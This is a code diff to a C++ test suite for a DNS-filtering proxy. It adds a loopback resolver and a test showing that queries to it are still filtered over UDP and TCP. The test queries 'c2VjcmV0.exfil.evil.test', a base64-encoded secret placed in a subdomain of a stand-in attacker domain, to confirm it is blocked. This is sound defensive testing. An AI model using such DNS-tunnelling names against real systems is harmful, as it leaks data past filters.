@@ -27,7 +27,7 @@ namespace {
 
 using proxy::testing::UpstreamServer;
 
-constexpr size_t kFiltered = 0, kUnfiltered = 1;
+constexpr size_t kFiltered = 0, kUnfiltered = 1, kLoopback = 2;
 constexpr char kResolver[] = "192.0.2.53";
 constexpr char kPolicy[] =
     R"pb(network { mode: MODE_WHITELIST allow { entries: "allowed.test" } })pb";
@@ -41,10 +41,13 @@ class DnsFilterNetnsTest : public ::testing::Test {
   }
   static absl::Status SetUpBed() {
     TestbedOptions options;
-    options.agents = {{"ldns-f", 18011}, {"ldns-r", 18012}};
+    options.agents = {{"ldns-f", 18011}, {"ldns-r", 18012}, {"ldns-l", 18013}};
     options.v0_addresses = {"192.0.2.10/24"};
     options.v1_addresses = {"192.0.2.11/24", "192.0.2.12/24", "192.0.2.53/24"};
-    options.dns = {{{kResolver}, /*filter=*/true}, {{kResolver}, /*filter=*/false}};
+    // The third agent's resolver listens on loopback, as a local caching resolver does.
+    options.dns = {{{kResolver}, /*filter=*/true},
+                   {{kResolver}, /*filter=*/false},
+                   {{"127.0.0.53"}, /*filter=*/true}};
     options.proxy_flags = {"--peek-timeout=300ms", "--connect-timeout=3s"};
     options.helpers = {"test/proxy/probe", "test/proxy/dns_probe"};
     absl::StatusOr<std::unique_ptr<ProxyTestbed>> bed = ProxyTestbed::Create(options);
@@ -62,20 +65,28 @@ class DnsFilterNetnsTest : public ::testing::Test {
           TestResolver::Start(kResolver, std::move(table));
       if (!resolver.ok()) return resolver.status();
       resolver_ = resolver->release();
+      absl::StatusOr<std::unique_ptr<TestResolver>> local =
+          TestResolver::Start("127.0.0.53", {{"allowed.test", {"192.0.2.11"}}});
+      if (!local.ok()) return local.status();
+      local_resolver_ = local->release();
       server_ = new UpstreamServer(proxy::SocketAddress{*engine::ParseIpAddress("192.0.2.11"), 80});
       if (!server_->ok()) return absl::InternalError("cannot serve 192.0.2.11:80");
     }
     if (absl::Status started = bed_->StartProxy(); !started.ok()) return started;
-    return bed_->PublishAndWait({bed_->Subject(kFiltered, kPolicy), bed_->Subject(kUnfiltered, kPolicy)})
+    return bed_
+        ->PublishAndWait({bed_->Subject(kFiltered, kPolicy), bed_->Subject(kUnfiltered, kPolicy),
+                          bed_->Subject(kLoopback, kPolicy)})
         .status();
   }
   static void TearDownTestSuite() {
     delete server_;
     delete resolver_;
+    delete local_resolver_;
     delete bed_;
     delete setup_;
     server_ = nullptr;
     resolver_ = nullptr;
+    local_resolver_ = nullptr;
     bed_ = nullptr;
     setup_ = nullptr;
   }
@@ -116,6 +127,7 @@ class DnsFilterNetnsTest : public ::testing::Test {
   static absl::Status* setup_;
   static ProxyTestbed* bed_;
   static TestResolver* resolver_;
+  static TestResolver* local_resolver_;
   static UpstreamServer* server_;
   size_t records_before_ = 0;
 };
@@ -123,6 +135,7 @@ class DnsFilterNetnsTest : public ::testing::Test {
 absl::Status* DnsFilterNetnsTest::setup_ = nullptr;
 ProxyTestbed* DnsFilterNetnsTest::bed_ = nullptr;
 TestResolver* DnsFilterNetnsTest::resolver_ = nullptr;
+TestResolver* DnsFilterNetnsTest::local_resolver_ = nullptr;
 UpstreamServer* DnsFilterNetnsTest::server_ = nullptr;
 
 TEST_F(DnsFilterNetnsTest, ExfiltrationThroughADeniedNameIsNxdomainLoggedAndNeverForwarded) {
@@ -186,6 +199,21 @@ TEST_F(DnsFilterNetnsTest, ResolveThenConnectGoesWhereTheFilterToldTheAgent) {
   ASSERT_TRUE(run.ok()) << run.status();
   EXPECT_EQ(absl::StripTrailingAsciiWhitespace(run->out), "LINE SERVER 192.0.2.11:80");
   RecordWith(kFiltered, "connecting to 192.0.2.11:80 as the subject's DNS filter answered it");
+}
+
+// A resolver on loopback is no way around the filter: TCP to it would otherwise meet the
+// loopback exemption.
+TEST_F(DnsFilterNetnsTest, ALoopbackResolverIsFilteredOverUdpAndTcp) {
+  for (const char* transport : {"udp", "tcp"}) {
+    EXPECT_EQ(Dns(kLoopback, {transport, "127.0.0.53", "c2VjcmV0.exfil.evil.test"}),
+              "rcode=3 tc=0 id=20817 answers=0 addrs= bytes=42")
+        << transport;
+    EXPECT_EQ(Dns(kLoopback, {transport, "127.0.0.53", "allowed.test"}),
+              "rcode=0 tc=0 id=20817 answers=1 addrs=192.0.2.11 bytes=46")
+        << transport;
+  }
+  EXPECT_EQ(local_resolver_->Asked(kExfil), 0);
+  EXPECT_EQ(local_resolver_->Asked("allowed.test"), 2);
 }
 
 TEST_F(DnsFilterNetnsTest, DnsToAnyOtherServerStaysClosed) {
